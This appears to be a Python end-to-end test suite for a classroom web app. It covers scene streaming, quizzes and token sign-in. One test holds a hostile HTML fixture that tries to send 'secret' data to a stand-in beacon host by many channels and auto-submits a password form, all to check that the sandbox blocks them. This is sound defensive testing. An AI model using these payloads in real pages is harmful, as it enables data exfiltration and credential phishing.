"""The classroom page as a learner meets it: `openmaic serve` (all roles) driven by headless Chromium.

A scriptable fake provider writes the scenes' scripts, each answered when the test says so, so the page is opened
after exactly one scene is ready and watched while the others arrive. Another writes a hostile interactive page,
and a second fake server stands for the outside world it tries to reach. Screenshots land in tests/artifacts/.
"""

from __future__ import annotations

import contextlib
import re
import signal
from collections.abc import Callable
from typing import Any

import httpx
import trio

from openmaic.owners.tokens import create_token
from openmaic.store.database import open_database
from openmaic.store.postgres import free_port
from tests.e2e.test_workbench_ui import ARTIFACTS, Page, Request, expect, in_browser, pytestmark, running_server  # noqa: F401
from tests.fakes.provider_server import Held, Json, open_fake_provider
from tests.serving import serve_processes, wait_ready

RUNTIME = "runtime: {lease_ttl_s: 3, heartbeat_s: 0.5, claim_poll_s: 0.2, wake_poll_s: 1, step_retries: 1}\n"


def config_with(fake_url: str, slot: str) -> str:
    """The demo provider for everything but ``slot``, which the fake provider at ``fake_url`` answers."""
    return (
        RUNTIME + "providers:\n  demo: {preset: demo, options: {latencyMs: 10}}\n"
        f"  fake: {{preset: openai-compatible, baseUrl: '{fake_url}', apiKey: sk-e2e, "
        "options: {maxRetries: 0, timeoutS: 60}}\n"
        f'slots: {{llm: "demo:course", {slot}: "fake:gpt-test"}}\n'
    )


def shot(page: Page, name: str, *, full_page: bool = True) -> None:
    page.screenshot(path=str(ARTIFACTS / f"classroom-{name}.png"), full_page=full_page)


def actions(n: int) -> Json:
    """A scene's script: the teacher speaks, a classmate asks, the teacher pauses."""
    return Json({"actions": [
        {"kind": "speech", "agent_id": "teacher", "text": f"Welcome to scene {n}."},
        {"kind": "ask", "agent_id": "classmate_1", "text": f"What matters most in scene {n}?"},
        {"kind": "pause", "agent_id": "teacher", "text": "Think about it for a moment."},
    ]})  # fmt: skip


async def start_run(client: httpx.AsyncClient, requirement: str, **extra: Any) -> str:
    r = await client.post("/api/generation-runs", json={"requirement": requirement, "outlineReview": "auto", **extra})
    assert r.status_code == 202, r.text
    return r.json()["run"]["id"]


async def wait_run(client: httpx.AsyncClient, run_id: str, done: Callable[[dict], bool]) -> dict:
    with trio.fail_after(60):
        while True:
            run = (await client.get(f"/api/generation-runs/{run_id}")).json()["run"]
            if done(run):
                return run
            assert run["state"] not in ("paused", "ended"), run
            await trio.sleep(0.1)


def release(gate: trio.Event) -> None:
    """Let the fake answer the requests held on ``gate`` (called from the browser's thread)."""
    trio.from_thread.run_sync(gate.set)


async def test_the_classroom_opens_after_the_first_scene_and_fills_in_as_the_rest_arrive(db_url, tmp_path):
    second, rest = trio.Event(), trio.Event()
    async with open_fake_provider() as fake:
        fake.push(actions(1), Held(actions(2), second))
        async with running_server(db_url, tmp_path, config_with(fake.openai_url, "course.actions")) as base, \
                httpx.AsyncClient(base_url=base, trust_env=False, timeout=10) as client:  # fmt: skip
            run_id = await start_run(client, "Photosynthesis for 12-year-olds")
            run = await wait_run(client, run_id, lambda r: r["progress"]["scenesCompleted"] >= 1)
            n = run["progress"]["scenesTotal"]
            assert n >= 4 and run["progress"]["scenesCompleted"] == 1
            fake.push(*[Held(actions(i), rest) for i in range(3, n + 1)])
            classroom_id = run["stageId"]
            scenes = (await client.get(f"/api/classrooms/{classroom_id}")).json()["classroom"]["scenes"]
            quiz_index = next(i for i, s in enumerate(scenes) if s["kind"] == "quiz")

            def scenario(page: Page) -> None:
                page.goto(f"/classroom/{classroom_id}")
                main = page.locator("main")
                # Open after the first scene: it is there, the others are being written.
                expect(main).to_have_attribute("data-ready-scenes", "1")
                expect(main).to_have_attribute("data-total-scenes", str(n))
                expect(main).to_have_attribute("data-state", "generating")
                expect(page.get_by_role("heading", level=1)).to_have_text(re.compile(r"\S"))
                first = page.get_by_role("region", name=scenes[0]["title"])
                expect(first).to_be_visible()
                assert first.locator(".bullets li").count() >= 3
                expect(first.locator(".script .line")).to_have_count(3)
                expect(first.locator(".script .line.ask")).to_contain_text("What matters most in scene 1?")
                expect(page.locator(".connection")).to_have_text("Live")
                nav = page.get_by_role("navigation", name="Scenes")
                expect(nav.get_by_role("button")).to_have_count(n)
                expect(nav.get_by_role("button").nth(1)).to_contain_text("(being written)")
                expect(page.get_by_text(f"1 of {n} scenes are ready")).to_be_visible()
                shot(page, "first-scene")
                page.evaluate("window.__sameDocument = true")
                # A scene already shown is not rebuilt when others arrive (a frame would reload, a quiz forget).
                first.locator(".bullets").evaluate("(el) => { el.dataset.kept = 'yes'; }")

                # Keyboard: → shows scene 2 (still being written), with the focus on its title.
                page.keyboard.press("ArrowRight")
                expect(main).to_have_attribute("data-scene", "2")
                assert page.url.endswith("#scene-2")
                second_panel = page.get_by_role("region", name=scenes[1]["title"])
                expect(second_panel.get_by_role("heading", level=2)).to_be_focused()
                expect(second_panel).to_contain_text("being written")
                expect(first).to_be_hidden()

                # Scene 2 arrives while it is shown: it fills in where the learner is, and is announced.
                release(second)
                expect(main).to_have_attribute("data-ready-scenes", "2")
                expect(second_panel.locator(".bullets li").first).to_be_visible()
                expect(second_panel.locator(".script .line").first).to_contain_text("Welcome to scene 2.")
                expect(page.locator("#announcer")).to_have_text(f"Scene 2 of {n} is ready: {scenes[1]['title']}.")
                expect(nav.get_by_role("button").nth(2)).to_contain_text("(being written)")
                shot(page, "second-scene-arrived")

                # The rest arrive; the page is the same document throughout.
                release(rest)
                expect(main).to_have_attribute("data-ready-scenes", str(n))
                expect(main).to_have_attribute("data-state", "complete")
                expect(page.locator("#announcer")).to_contain_text(f"All {n} scenes are ready.")
                expect(page.get_by_text(f"All {n} scenes are ready.", exact=True)).to_be_visible()
                expect(page.locator(".connection")).to_be_hidden()
                expect(nav.get_by_text("(being written)")).to_have_count(0)
                assert page.evaluate("window.__sameDocument") is True
                # The first scene is hidden now (scene 2 is shown), and hidden regions have no role: find it by id.
                kept = page.locator(f'section[data-scene-id="{scenes[0]["id"]}"] .bullets')
                expect(kept).to_have_attribute("data-kept", "yes")

                # ← goes back; the pager's buttons keep the focus and say where they went.
                page.keyboard.press("ArrowLeft")
                expect(main).to_have_attribute("data-scene", "1")
                expect(page.get_by_role("button", name="Previous scene")).to_be_disabled()
                page.get_by_role("button", name="Next scene").click()
                expect(page.get_by_role("button", name="Next scene")).to_be_focused()
                expect(page.locator("#announcer")).to_have_text(f"Scene 2 of {n}: {scenes[1]['title']}")

                # The script steps line by line.
                script = second_panel.locator(".script")
                expect(script.locator(".line.current")).to_contain_text("Welcome to scene 2.")
                script.get_by_role("button", name="Next line").click()
                expect(script.locator(".line.current")).to_contain_text("What matters most in scene 2?")
                expect(script.locator(".line-position")).to_have_text("Line 2 of 3")

                # The quiz: answer it, get told, and find it answered after going away and back.
                nav.get_by_role("button").nth(quiz_index).click()
                quiz = page.get_by_role("region", name=scenes[quiz_index]["title"])
                expect(quiz.get_by_role("heading", level=2)).to_be_focused()
                questions = quiz.locator("fieldset.quiz-question")
                count = questions.count()
                assert count >= 1
                quiz_data = scenes_now(page, classroom_id)[quiz_index]["content"]["quiz"]["questions"]
                questions.first.get_by_role("button", name="Check answer").click()
                expect(questions.first.locator(".feedback")).to_have_text("Choose an answer first.")
                for i in range(count):
                    q = questions.nth(i)
                    right = quiz_data[i]["answer"]
                    pick = (right + 1) % len(quiz_data[i]["options"]) if i == 0 else right
                    q.get_by_role("radio").nth(pick).check()
                    q.get_by_role("button", name="Check answer").click()
                    expect(q.locator(".feedback")).to_contain_text("Correct." if i else "Not quite.")
                expect(questions.first.locator(".option.correct")).to_contain_text(quiz_data[0]["options"][
                    quiz_data[0]["answer"]])
                expect(quiz.locator(".quiz-score")).to_have_text(f"You answered {count - 1} of {count} correctly.")
                shot(page, "quiz-answered")
                page.keyboard.press("ArrowRight")
                page.keyboard.press("ArrowLeft")
                expect(quiz.locator(".quiz-score")).to_have_text(f"You answered {count - 1} of {count} correctly.")
                expect(questions.first.get_by_role("radio").first).to_be_disabled()

                # A reload opens the scene in the address, complete.
                page.reload()
                expect(main).to_have_attribute("data-scene", str(quiz_index + 1))
                expect(main).to_have_attribute("data-state", "complete")
                expect(page.get_by_role("region", name=scenes[quiz_index]["title"])).to_be_visible()
                page.set_viewport_size({"width": 390, "height": 844})
                shot(page, "phone")

            await in_browser(scenario, base)
    assert fake.pending == 0 and not fake.errors


def scenes_now(page: Page, classroom_id: str) -> list[dict]:
    """The classroom's scenes as the page's own origin reads them (its answers included)."""
    return page.evaluate(
        "async (id) => (await (await fetch(`/api/classrooms/${id}`)).json()).classroom.scenes", classroom_id
    )


HOSTILE = """<!doctype html><html><head><meta charset="utf-8"><title>Try it</title>
<style>body { background: url(BEACON/css-background); }</style>
<link rel="stylesheet" href="BEACON/stylesheet.css"><link rel="prefetch" href="BEACON/prefetch">
</head><body>
<h1 id="status">Interactive scene</h1>
<img src="BEACON/image" alt="">
<iframe src="BEACON/nested-frame" title="nested"></iframe>
<form id="phish" action="BEACON/form" method="post"><label>Password <input name="password" type="password"
  value="hunter2"></label><button id="login">Log in</button></form>
<button id="leave" onclick="leave()">Leave</button>
<script>
  const B = "BEACON";
  const status = document.getElementById("status");
  let tried = 0;
  const note = () => { tried += 1; status.dataset.tried = String(tried); };
  document.addEventListener("securitypolicyviolation", note);
  fetch(B + "/fetch?secret=1").catch(note);
  try { const x = new XMLHttpRequest(); x.open("GET", B + "/xhr"); x.send(); } catch (e) { note(); }
  try { navigator.sendBeacon(B + "/beacon", "secret"); } catch (e) { note(); }
  try { new WebSocket(B.replace("http:", "ws:") + "/socket"); } catch (e) { note(); }
  try { new EventSource(B + "/events"); } catch (e) { note(); }
  new Image().src = B + "/pixel";
  try { window.open(B + "/popup"); } catch (e) { note(); }
  try { top.location.href = B + "/top"; } catch (e) { note(); }
  try { document.getElementById("phish").submit(); } catch (e) { note(); }
  document.getElementById("login").click();
  status.textContent = "Scripts ran";
  function leave() {
    const refresh = document.createElement("meta");
    refresh.httpEquiv = "refresh";
    refresh.content = "0; url=" + B + "/refresh";
    document.head.append(refresh);
    location.href = B + "/navigate";
  }
</script></body></html>"""


async def test_an_interactive_scene_runs_in_a_sandbox_that_reaches_nothing(db_url, tmp_path):
    async with open_fake_provider() as fake, open_fake_provider() as outside:
        beacon = f"http://127.0.0.1:{outside.port}"
        fake.push(Json({"title": "Try it yourself", "instructions": "Flip the cards.",
                        "html": HOSTILE.replace("BEACON", beacon)}))
        config = config_with(fake.openai_url, "course.content.interactive")
        async with running_server(db_url, tmp_path, config) as base, \
                httpx.AsyncClient(base_url=base, trust_env=False, timeout=10) as client:  # fmt: skip
            run_id = await start_run(client, "Photosynthesis for 12-year-olds", interactive=True)
            run = await wait_run(client, run_id, lambda r: r["state"] == "completed")
            scenes = (await client.get(f"/api/classrooms/{run['stageId']}")).json()["classroom"]["scenes"]
            index = next(i for i, s in enumerate(scenes) if s["kind"] == "interactive")
            slide = next(i for i, s in enumerate(scenes) if s["kind"] == "slide")

            def scenario(page: Page) -> None:
                answered: list[str] = []  # a request to the outside the browser got an answer for
                page.on("response", lambda r: answered.append(r.url))
                page.on("popup", lambda p: answered.append(f"popup {p.url}"))
                page.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation', "
                                     "(e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI))")
                page.goto(f"/classroom/{run['stageId']}#scene-{index + 1}")
                panel = page.get_by_role("region", name=scenes[index]["title"])
                expect(panel.get_by_text("Flip the cards.")).to_be_visible()
                frame = panel.frame_locator("iframe.scene-frame")
                expect(frame.locator("#status")).to_have_text("Scripts ran")  # its own scripts do run
                expect(frame.locator("#status")).to_have_attribute("data-tried", re.compile(r"^[1-9]"))
                shot(page, "interactive-sandboxed")
                # Navigating its frame away is refused by the classroom's own policy (frame-src): Chrome shows its
                # "blocked" page in the frame instead, never the other site.
                frame.get_by_role("button", name="Leave").click()
                page.wait_for_function("() => window.__violations.some((v) => v.startsWith('frame-src'))")
                scene = next(f for f in page.frames if f.parent_frame == page.main_frame)
                assert not scene.url.startswith(beacon), scene.url
                assert page.url.endswith(f"#scene-{index + 1}") and len(page.context.pages) == 1
                assert not [u for u in answered if beacon in u], answered

                # The slides' scripts point at their bullets while the learner steps through them.
                page.get_by_role("navigation", name="Scenes").get_by_role("button").nth(slide).click()
                lesson = page.get_by_role("region", name=scenes[slide]["title"])
                lines = [a for a in scenes[slide]["actions"]["actions"]]
                k = next(i for i, a in enumerate(lines) if a["kind"] == "highlight")
                for _ in range(k):
                    lesson.get_by_role("button", name="Next line").click()
                expect(lesson.locator(".bullets li.highlighted")).to_have_text(lines[k]["text"])

            await in_browser(scenario, base, expected_errors=r"Content Security Policy|sandbox|Blocked|Refused|"
                                                             r"allow-popups|Unsafe attempt|ERR_BLOCKED")
        assert outside.requests == [], [r.path for r in outside.requests]
    assert fake.pending == 0


async def test_with_access_tokens_the_classroom_reads_and_follows_over_the_token_across_a_restart(db_url, tmp_path):
    rest = trio.Event()
    async with open_fake_provider() as fake:
        fake.push(actions(1), Held(actions(2), rest))
        config = config_with(fake.openai_url, "course.actions") + "identity: {mode: token}\n"
        config = config.replace("step_retries: 1", "step_retries: 1, shutdown_grace_s: 0.2")
        port = free_port()
        base = f"http://127.0.0.1:{port}"
        with contextlib.ExitStack() as servers:
            first = servers.enter_context(serve_processes(db_url, tmp_path, [(None, port)], config))
            async with httpx.AsyncClient(base_url=base, trust_env=False, timeout=10) as client:
                await wait_ready(client, first, tmp_path)
                async with open_database(db_url) as db:
                    alice, bob = await create_token(db, "alice"), await create_token(db, "bob")
                client.headers["Authorization"] = f"Bearer {alice}"
                run_id = await start_run(client, "The water cycle")
                run = await wait_run(client, run_id, lambda r: r["progress"]["scenesCompleted"] >= 1)
            # The script held when the server stops is asked for again by the next one: one reply more.
            fake.push(*[Held(actions(i), rest) for i in range(3, run["progress"]["scenesTotal"] + 2)])
            classroom_id = run["stageId"]

            async def ready_again(procs: list) -> None:
                async with httpx.AsyncClient(base_url=base, trust_env=False, timeout=10) as client:
                    await wait_ready(client, procs, later)

            later = tmp_path / "restarted"
            later.mkdir()

            def restart() -> None:
                for p in first:
                    p.send_signal(signal.SIGTERM)
                    p.wait(timeout=30)
                second = servers.enter_context(serve_processes(db_url, later, [(None, port)], config))
                trio.from_thread.run(ready_again, second)

            def scenario(page: Page) -> None:
                # A navigation carries no token: the page comes, and asks for one.
                page.goto(f"/classroom/{classroom_id}")
                expect(page.get_by_role("heading", name="Sign in first")).to_be_visible()
                page.get_by_role("link", name="Sign in on the workbench").click()
                page.get_by_label("Access token").fill(bob)
                page.get_by_role("button", name="Sign in").click()
                expect(page.get_by_role("heading", name="Your courses")).to_be_visible()
                # Another owner's classroom is not found, exactly like an unknown one.
                page.goto(f"/classroom/{classroom_id}")
                expect(page.get_by_role("heading", level=1)).to_have_text("Classroom not found")
                page.goto("/classroom/course-unknown")
                expect(page.get_by_role("heading", level=1)).to_have_text("Classroom not found")
                # Its owner reads it and follows its run, over the token.
                page.evaluate("(t) => localStorage.setItem('openmaic.token', t)", alice)
                followed: list[Request] = []
                page.on("request", lambda r: followed.append(r) if "/api/generation-runs/" in r.url else None)
                page.goto(f"/classroom/{classroom_id}")
                main = page.locator("main")
                expect(main).to_have_attribute("data-ready-scenes", "1")
                expect(page.locator(".connection")).to_have_text("Live")
                # The server restarts under it: the page reconnects and resumes after the last event it had.
                restart()
                expect(page.locator(".connection")).to_have_text("Live")
                assert len([r for r in followed if "/events" in r.url]) >= 2, followed
                release(rest)
                expect(main).to_have_attribute("data-state", "complete")
                shot(page, "token-mode")
                follows = [r.all_headers() for r in followed if "/events" in r.url]
                assert all(f["authorization"] == f"Bearer {alice}" for f in follows), follows
                assert int(follows[-1]["last-event-id"]) >= int(follows[0]["last-event-id"]) > 0, follows

            await in_browser(scenario, base, expected_errors=r"status of (401|404)|net::ERR_")
    assert fake.pending == 0
